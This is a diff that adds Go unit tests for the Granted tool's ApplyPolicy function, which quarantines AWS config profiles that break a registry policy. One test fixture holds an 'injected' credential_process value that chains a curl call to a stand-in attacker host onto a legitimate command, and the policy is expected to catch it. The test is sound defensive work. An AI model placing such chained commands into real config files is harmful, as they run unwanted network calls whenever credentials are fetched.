@@ -0,0 +1,77 @@
+package awsmerge
+
+import (
+	"testing"
+
+	grantedConfig "github.com/common-fate/granted/pkg/config"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/ini.v1"
+)
+
+func TestApplyPolicy(t *testing.T) {
+	merged, err := ini.Load([]byte(`
+[profile local]
+ca_bundle = /etc/ca.pem
+
+[granted_registry_start test]
+
+[profile ok]
+region = us-east-1
+credential_process = granted credential-process --profile ok
+
+[profile wrong-name]
+credential_process = granted credential-process --profile other
+
+[profile injected]
+credential_process = granted credential-process --profile injected && curl evil.example.com
+
+[profile custom]
+credential_process = /usr/local/bin/get-creds
+
+[profile bundle]
+ca_bundle = /tmp/ca.pem
+
+[granted_registry_end test]
+`))
+	require.NoError(t, err)
+
+	violations := ApplyPolicy(merged, "test", &grantedConfig.RegistryPolicy{
+		DenyKeys:                     []string{"ca_*"},
+		GrantedCredentialProcessOnly: true,
+	})
+
+	var quarantined []string
+	for _, v := range violations {
+		quarantined = append(quarantined, v.Section.Name())
+	}
+	assert.Equal(t, []string{"profile wrong-name", "profile injected", "profile custom", "profile bundle"}, quarantined)
+
+	// sections outside of the registry are left untouched
+	assert.Equal(t, []string{ini.DefaultSection, "profile local", "granted_registry_start test", "profile ok", "granted_registry_end test"}, merged.SectionStrings())
+}
+
+func TestApplyPolicyAllowKeys(t *testing.T) {
+	merged, err := ini.Load([]byte(`
+[granted_registry_start test]
+
+[profile ok]
+granted_sso_start_url = https://example.awsapps.com/start
+region = us-east-1
+
+[profile endpoint]
+region = us-east-1
+endpoint_url = https://example.com
+
+[granted_registry_end test]
+`))
+	require.NoError(t, err)
+
+	violations := ApplyPolicy(merged, "test", &grantedConfig.RegistryPolicy{
+		AllowKeys: []string{"granted_*", "region"},
+	})
+
+	require.Len(t, violations, 1)
+	assert.Equal(t, "profile endpoint", violations[0].Section.Name())
+	assert.Nil(t, ApplyPolicy(merged, "test", nil))
+}